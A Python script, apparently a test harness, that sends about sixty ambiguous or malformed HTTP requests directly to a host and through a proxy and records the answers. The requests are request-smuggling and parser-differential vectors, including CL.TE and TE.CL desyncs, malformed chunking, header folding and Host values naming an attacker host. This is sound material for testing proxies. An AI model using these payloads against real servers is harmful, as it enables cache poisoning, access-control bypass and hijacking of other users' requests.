"""Requests whose end is a matter of opinion, sent raw to the proxy and to the host itself."""

from common import PROXY, attempt, exchange, sys, tell

host, evil = sys.argv[1:3]
INNER = f"GET /smuggled HTTP/1.1\r\nHost: {host}\r\nX: "
POST = f"POST /first HTTP/1.1\r\nHost: {host}\r\n"
GET = f"GET /first HTTP/1.1\r\nHost: {host}\r\n"
CHUNK = f"{len(INNER):x}\r\n{INNER}\r\n0\r\n\r\n"
VECTORS = {
    "CL.TE": POST + f"Content-Length: {len(INNER) + 5}\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n" + INNER,
    "TE.CL": POST + "Content-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n" + CHUNK,
    "two CL": POST + f"Content-Length: 0\r\nContent-Length: {len(INNER)}\r\n\r\n" + INNER,
    "CL list": POST + f"Content-Length: 0, {len(INNER)}\r\n\r\n" + INNER,
    "CL plus": POST + f"Content-Length: +{len(INNER)}\r\n\r\n" + INNER,
    "CL hex": POST + "Content-Length: 0x0\r\n\r\n" + INNER,
    "CL negative": POST + "Content-Length: -1\r\n\r\n" + INNER,
    "CL overflow": POST + f"Content-Length: {2**64}\r\n\r\n" + INNER,
    "CL space": POST + "Content-Length : 0\r\n\r\n" + INNER,
    "TE tab": POST + f"Content-Length: {len(INNER)}\r\nTransfer-Encoding:\tchunked\r\n\r\n0\r\n\r\n" + INNER,
    "TE space": POST + f"Content-Length: 0\r\nTransfer-Encoding : chunked\r\n\r\n" + CHUNK,
    "TE twice": POST + "Transfer-Encoding: identity\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n" + INNER,
    "TE list": POST + "Transfer-Encoding: chunked, identity\r\n\r\n0\r\n\r\n" + INNER,
    "TE xchunked": POST + f"Content-Length: {len(INNER)}\r\nTransfer-Encoding: xchunked\r\n\r\n" + INNER,
    "TE vertical tab": POST + "Content-Length: 4\r\nTransfer-Encoding: \x0bchunked\r\n\r\n" + CHUNK,
    "TE fold": POST + "Content-Length: 4\r\nTransfer-Encoding:\r\n chunked\r\n\r\n" + CHUNK,
    "TE 1.0": POST.replace("1.1", "1.0") + "Transfer-Encoding: chunked\r\n\r\n" + CHUNK,
    "chunk size overflow": POST + "Transfer-Encoding: chunked\r\n\r\n10000000000000000\r\n" + INNER,
    "chunk size 0x": POST + "Transfer-Encoding: chunked\r\n\r\n0x0\r\n\r\n" + INNER,
    "chunk size negative": POST + "Transfer-Encoding: chunked\r\n\r\n-1\r\n" + INNER,
    "chunk bare LF": POST + "Transfer-Encoding: chunked\r\n\r\n0\n\n" + INNER,
    "chunk extension LF": POST + "Transfer-Encoding: chunked\r\n\r\n2;\nxx\r\n" + CHUNK,
    "chunk longer than said": POST + "Transfer-Encoding: chunked\r\n\r\n1\r\nabcdef\r\n0\r\n\r\n" + INNER,
    "bare LF": GET.replace("\r\n", "\n") + "\n" + INNER,
    "bare CR": GET + "X-A: b\rTransfer-Encoding: chunked\r\n\r\n" + INNER,
    "LF in a value": GET + "X-A: b\nX-Smuggled: c\r\n\r\n",
    "NUL in a value": GET + "X-A: b\0X-Smuggled: c\r\n\r\n",
    "fold": GET + "X-A: b\r\n X-Smuggled: c\r\n\r\n",
    "header without a name": GET + ": b\r\n\r\n" + INNER,
    "header without a colon": GET + "nonsense\r\n\r\n",
    "space before the first header": f"GET /first HTTP/1.1\r\n Host: {host}\r\nHost: {host}\r\n\r\n",
    "two hosts": GET + f"Host: {evil}\r\n\r\n",
    "no host": "GET /first HTTP/1.1\r\n\r\n",
    "host of another": f"GET /first HTTP/1.1\r\nHost: {evil}\r\n\r\n",
    "host with userinfo": f"GET /first HTTP/1.1\r\nHost: {host}@{evil}\r\n\r\n",
    "host with a path": f"GET /first HTTP/1.1\r\nHost: {host}/x\r\n\r\n",
    "host with a comma": f"GET /first HTTP/1.1\r\nHost: {host}, {evil}\r\n\r\n",
    "space in the target": f"GET /first HTTP/1.1 x /smuggled HTTP/1.1\r\nHost: {host}\r\n\r\n",
    "control in the target": f"GET /first\x01\t/smuggled HTTP/1.1\r\nHost: {host}\r\n\r\n",
    "version 9": f"GET /first HTTP/9.9\r\nHost: {host}\r\n\r\n" + INNER,
    "version 0.9": "GET /smuggled\r\n\r\n",
    "body of GET": GET + f"Content-Length: {len(INNER)}\r\n\r\n" + INNER,
    "upgrade h2c": GET + "Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAAP__\r\n\r\n",
    "connection names host": GET + "Connection: host, content-length\r\n\r\n",
    "lower case method": f"get /first HTTP/1.1\r\nHost: {host}\r\n\r\n",
    "expect": POST + f"Expect: 100-continue\r\nContent-Length: {len(INNER)}\r\n\r\n" + INNER,
    "CONNECT inside": f"CONNECT {evil}:80 HTTP/1.1\r\nHost: {evil}:80\r\n\r\nGET /smuggled HTTP/1.1\r\nHost: {evil}\r\n\r\n",
    "absolute of another": f"GET http://{evil}/smuggled HTTP/1.1\r\nHost: {host}\r\n\r\n",
    "absolute of another, then ours": f"GET http://{host}/first HTTP/1.1\r\nHost: {host}\r\n\r\nGET http://{evil}/smuggled HTTP/1.1\r\nHost: {evil}\r\n\r\n",
    "absolute with userinfo": f"GET http://{host}@{evil}/smuggled HTTP/1.1\r\nHost: {host}\r\n\r\n",
    "absolute with backslash": f"GET http://{evil}\\@{host}/smuggled HTTP/1.1\r\nHost: {host}\r\n\r\n",
    "absolute of https": f"GET https://{host}/first HTTP/1.1\r\nHost: {host}\r\n\r\n",
    "absolute of ftp": f"GET ftp://{host}/first HTTP/1.1\r\nHost: {host}\r\n\r\n",
    "absolute port": f"GET http://{host}:22/first HTTP/1.1\r\nHost: {host}\r\n\r\n",
    "absolute no host": "GET http:///first HTTP/1.1\r\nHost: \r\n\r\n",
    "asterisk": f"OPTIONS * HTTP/1.1\r\nHost: {host}\r\n\r\n",
    "huge head": GET + "X: " + "a" * 70_000 + "\r\n\r\n",
    "many fields": GET + "".join(f"X-{n}: y\r\n" for n in range(2000)) + "\r\n",
    "long target": f"GET /{'a' * 70_000} HTTP/1.1\r\nHost: {host}\r\n\r\n",
}


def absolute(text):
    """The same for the proxy's door, where a request names its host: its first line alone changes."""
    first, end, rest = text.partition("\n")
    words = first.split(" ", 2)
    if len(words) == 3 and words[1].startswith("/"):
        first = f"{words[0]} http://{host}{words[1]} {words[2]}"
    return first + end + rest


said = {}
for name in sys.argv[3:]:
    data = VECTORS[name]
    said[f"direct {name}"] = attempt(exchange, host, 80, data.encode("latin-1"), 2)
    said[f"proxy {name}"] = attempt(exchange, *PROXY, absolute(data).encode("latin-1"), 2)
tell(said)
